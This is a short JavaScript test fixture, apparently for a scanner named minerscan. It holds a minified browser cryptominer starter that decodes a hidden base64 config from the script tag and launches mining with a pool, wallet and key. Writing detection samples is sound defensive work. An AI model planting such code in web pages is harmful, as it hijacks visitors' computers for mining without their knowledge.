// Sample written for minerscan's tests: a minified starter: no spaces, the key read off an object.
!function(){var c=JSON.parse(atob(document.currentScript.dataset.c));window.R.Anonymous(c.k,{pool:c.p,dialect:c.d,wallet:c.w}).start()}();
